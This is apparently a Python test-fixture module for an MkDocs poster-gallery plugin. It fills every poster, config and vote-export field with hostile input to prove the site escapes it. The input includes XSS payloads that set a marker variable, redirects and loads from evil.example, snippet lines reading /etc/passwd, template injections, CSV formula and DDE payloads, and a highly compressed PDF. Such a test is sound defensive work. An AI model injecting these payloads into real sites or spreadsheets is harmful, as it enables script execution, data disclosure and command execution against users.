"""A hostile gallery, built by the tests themselves: payloads in every field a pull request or a form
can fill, and in every label of mkdocs.yml's extra.gallery.

Every payload that could run a script sets ``window.__pwned``; every one that could load something
points at ``evil.example``; so the browser test only has to look for that variable, dialogs, and
requests to another host.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zlib
from pathlib import Path

from projectkit import SCRIPTS, Project

PAYLOADS = (
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=2">',
    '"><svg onload=window.__pwned=3>',
    "'><iframe srcdoc='<script>parent.__pwned=4</script>'>",
    "</title><script>window.__pwned=5</script>",
    "</script><script>window.__pwned=6</script>",
    "<!-- --!><script>window.__pwned=7</script>",
    '<a href="javascript:window.__pwned=8">klik</a>',
    '[klik](javascript:window.__pwned=9) ![x](x" onerror="window.__pwned=10)',
    "<details open ontoggle=window.__pwned=11>",
    '{: onclick="window.__pwned=12" } {#id .cls}',
    '--8<-- "/etc/passwd"',
    '{{ config.site_name }} {% include "x" %} {# c #}',
    "--- ... *** ___",
    "&lt;script&gt; &amp; &#60;b&#62; &#x3C;i&#x3E;",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xMzwvc2NyaXB0Pg==",
    '=HYPERLINK("https://evil.example/?x="&A1,"klik") +1 -1 @SUM(1)',
    "\u202eevil\u202c zero\u200bwidth \u2028 line",
    "`code` *em* __strong__ <b>b</b> | pipe | # hash",
    ":smile: @mention https://evil.example/ www.evil.example",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=14>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "${alert(1)} `${window.__pwned=15}` \\u003cscript\\u003e",
    '<object data="javascript:window.__pwned=16"></object>',
    "javascript:window.__pwned=17//https://example.org/",
)
ROLES = ("instructor", "trainee", "alumni")
LIMITS = {"title": 200, "author": 120, "center": 100, "alt": 1000, "program": 150, "tag": 40, "label": 100}


def _cut(text: str, limit: int) -> str:
    """At most ``limit`` characters, as the loader would see them (one line, single spaces)."""
    return " ".join(text.split())[:limit].strip()


def hostile_values(i: int) -> dict:
    """The poster.yml of hostile poster ``i``: payload ``i`` and its neighbours in every field."""
    p = [PAYLOADS[(i + k) % len(PAYLOADS)] for k in range(8)]
    return {
        "title": _cut(p[0], LIMITS["title"]),
        "authors": [_cut(p[1], LIMITS["author"]), "Budi Santoso"],
        "role": ROLES[i % 3],
        "center": _cut(p[2] + " BPVP", LIMITS["center"]),
        "alt": _cut(p[3], LIMITS["alt"]),
        "program": _cut(p[4], LIMITS["program"]),
        "date": f"2024-01-{i % 28 + 1:02d}",
        # Front-matter delimiters and snippet lines on lines of their own, between paragraphs.
        "summary": f'{p[5]}\n\n---\n\n--8<-- "/etc/passwd"\n\n{{% raw %}}\n\n{p[6]}'[:600],
        "tags": [_cut(p[6], LIMITS["tag"] - 4) + f" t{i}", _cut(p[7], LIMITS["tag"] - 4) + f" u{i}"],
        # The poster's own text: lines of payloads, and lines a line-based Markdown extension would act on.
        "text": f'{p[0]}\n--8<-- "/etc/passwd"\n---\n\n{p[2]}\n    {p[4]}\n{{% raw %}}',
        "links": [
            {
                "label": _cut(p[7], LIMITS["label"]),
                "url": f"https://example.org/javascript:alert({i})?q=%3Cscript%3E&x=1#frag",
            }
        ],
    }


# A poster.yml written by hand rather than as JSON: block scalars, quotes, comments.
HAND_WRITTEN_POSTER = """\
title: "</title><script>window.__pwned=20</script> {{ lipsum() }}"
authors:
  - "<img src=x onerror=window.__pwned=21>"
  - '[a](javascript:window.__pwned=22)'
role: alumni
center: "BPVP </textarea><svg onload=window.__pwned=23>"
alt: "\\" onload=\\"window.__pwned=24"   # ends the attribute, if anything does
program: "[link](javascript:window.__pwned=25) {: onclick=window.__pwned=26 }"
summary: |
  --8<-- "/etc/passwd"

  ---
  title: front matter inside a summary
  ---
  <div onclick="window.__pwned=27">raw HTML block</div>

      indented four spaces: code?
  {% include "base.html" %}
tags: ["<svg onload=window.__pwned=28>", "{{ 7*7 }}"]
links:
  - label: "\\u202egnp.exe"
    url: https://example.org/?a=1&b=2
"""


def write_hostile_corpus(project: Project) -> dict[str, dict]:
    """One poster per payload and a hand-written one; returns slug -> the values as written."""
    corpus = {}
    for i in range(len(PAYLOADS)):
        slug = f"hostile-{i:02d}"
        values = hostile_values(i)
        project.add_poster(
            slug, json.dumps(values, ensure_ascii=True) + "\n", colour=(40 + 7 * i, 200 - 5 * i, 90)
        )  # JSON is YAML
        corpus[slug] = values
    project.add_poster("hand-written", HAND_WRITTEN_POSTER, colour=(10, 10, 10))
    corpus["hand-written"] = None
    return corpus


# Every label of extra.gallery that reaches a page, hostile; the vote open now, with codes, per role.
HOSTILE_GALLERY = """\
posters: posters
title: "<script>window.__pwned=30</script> Galeri {{ x }}"
intro: "<img src=x onerror=window.__pwned=31> [x](javascript:window.__pwned=32) --8<-- \\"/etc/passwd\\""
results: true
vote:
  provider: google_forms
  url: https://docs.google.com/forms/d/e/1FAIpQLSdx9TestForm0123/formResponse
  fields: {poster: entry.111, token: entry.222, code: entry.333}
  opens: "2024-01-01T08:00:00+07:00"
  closes: "2024-12-31T08:00:00+07:00"
  per_role: true
  codes: true
  columns:
    time: "<b>Timestamp</b>"
    poster: "=poster"
kiosk:
  interval: 3
  order: title
  refresh_minutes: 1
  transition: 0
"""
# Markdown extensions a site owner may well switch on: none of them may reach the posters' text.
HOSTILE_EXTENSIONS = """\
markdown_extensions:
  - attr_list
  - md_in_html
  - admonition
  - pymdownx.magiclink
  - pymdownx.snippets:
      base_path: ["/", "."]
      check_paths: false
  - toc:
      permalink: true
# As in the demo: a short navigation, the generated pages outside it (NAV_POSTERS adds a few).
nav:
  - Galeri: index.md
  - Pilih Poster: vote/index.md
  - Hasil: results/index.md
  - Snippets: snippet-check.md
not_in_nav: |
  /poster/
  /role/
  /center/
  /tag/
  /kiosk/
  /print/
"""


def nav_posters(slugs) -> str:
    """Poster pages added to the navigation without a title: Material shows their own (hostile) titles there."""
    entries = "".join(f"      - poster/{slug}/index.md\n" for slug in slugs)
    return HOSTILE_EXTENSIONS.replace(
        "  - Snippets: snippet-check.md\n", "  - Snippets: snippet-check.md\n  - Poster:\n" + entries
    )


# A page the site owner wrote, using snippets on purpose: proof that the extension is live.
SNIPPET_PAGE = '# Snippet check\n\n--8<-- "etc/hostname"\n'


def hostile_export(slugs: list[str], codes: list[str]) -> bytes:
    """A Google Forms export with hostile values in every column, besides some valid votes."""
    rows = [["<b>Timestamp</b>", "=poster", "token", "code", "<script>window.__pwned=40</script>"]]
    for i, slug in enumerate(slugs[:6]):
        rows.append([f"2024/01/30 9:{i:02d}:00 AM GMT+7", slug, f"{i:032x}", codes[i], PAYLOADS[i]])
    for i, payload in enumerate(PAYLOADS):
        rows.append([f"2024/01/30 10:{i:02d}:00 AM GMT+7", payload, payload[:32], payload, payload])
    # Hostile times stop the count altogether (test_hostile's test_export_cells_too_long_for_csv_or_for_a_time).
    rows.append(["2024/01/30 11:00:00 AM GMT+7", "@SUM(A1)", "-2", "+3", " =cmd|' /C calc'!A0"])
    import csv
    import io

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def pdf_bytes(pages: int = 1, box=(0, 0, 595, 842), fills: int = 1) -> bytes:
    """A minimal PDF: ``pages`` pages of size ``box`` (points) sharing one drawing of ``fills`` filled
    rectangles, packed (FlateDecode): 3,000,000 of them are 105 MB of instructions in a file of 0.3 MB."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(b"0.1 0.2 0.3 rg 10 10 500 700 re f\n" * n) for n in _runs(fills, 100_000))
    content += packer.flush()
    kids = " ".join(f"{4 + i} 0 R" for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode(),
        b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    page = f"<< /Type /Page /Parent 2 0 R /MediaBox [{' '.join(map(str, box))}] /Contents 3 0 R >>".encode()
    objects += [page] * pages
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _runs(total: int, size: int):
    """``total`` cut into runs of at most ``size``."""
    while total > 0:
        yield min(total, size)
        total -= size


def write_many_posters(root: Path, count: int, bad_every: int = 0, summary: str = "") -> None:
    """``count`` poster folders with a poster.yml and a stand-in image (metadata is all that is read)."""
    for i in range(count):
        folder = root / "posters" / f"poster-{i:04d}"
        folder.mkdir(parents=True)
        role = "teacher" if bad_every and i % bad_every == 0 else ("instructor", "trainee", "alumni")[i % 3]
        (folder / "poster.yml").write_text(
            f"title: Poster {i} tentang las dan keselamatan kerja\nauthors:\n  - Peserta {i}\n  - Rekan {i % 7}\n"
            f"role: {role}\ncenter: BPVP {i % 40}\nalt: Poster dengan judul, foto dan grafik.\n"
            + (f"summary: {summary}\n" if summary else "")
            + f"tags: [las, k3, topik {i % 9}]\n",
            "utf-8",
        )
        (folder / "poster.jpg").write_bytes(b"\xff\xd8\xff\xe0 stand-in")


def build_hostile_project(root: Path) -> tuple[Project, dict]:
    """The hostile corpus with every feature on, counted and built: ``mkdocs build --strict`` into site/."""
    from postergallery.build import reserved_slugs
    from postergallery.commands import codes as ballot_codes
    from postergallery.commands import tally
    from postergallery.i18n import Translator
    from postergallery.stages.load import load_posters

    project = Project(root)
    corpus = write_hostile_corpus(project)
    project.write_config(HOSTILE_GALLERY, extra_top=nav_posters(["hostile-00", "hostile-04", "hand-written"]))
    (project.root / "docs" / "snippet-check.md").write_text(SNIPPET_PAGE, "utf-8")
    settings = project.check().settings
    tr = Translator("en")
    posters, _ = load_posters(settings.root, settings.posters, tr, reserved=reserved_slugs())
    codes = ballot_codes.make_codes(10)
    export = hostile_export([p.slug for p in posters], codes)
    result = tally.count_votes(
        export,
        settings.vote,
        posters,
        tr,
        valid_codes=set(codes),
        export_name="<img src=x onerror=window.__pwned=41>.csv",
    )
    tally.write_results(result, settings.vote, project.root / "results", tr)
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    proc = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=project.root, capture_output=True, text=True, env=env
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return project, corpus


def gallery_cli(project: Project, *args: str) -> subprocess.CompletedProcess:
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    return subprocess.run(
        [sys.executable, str(SCRIPTS / "gallery.py"), "--config", str(project.config), *args],
        cwd=project.root,
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
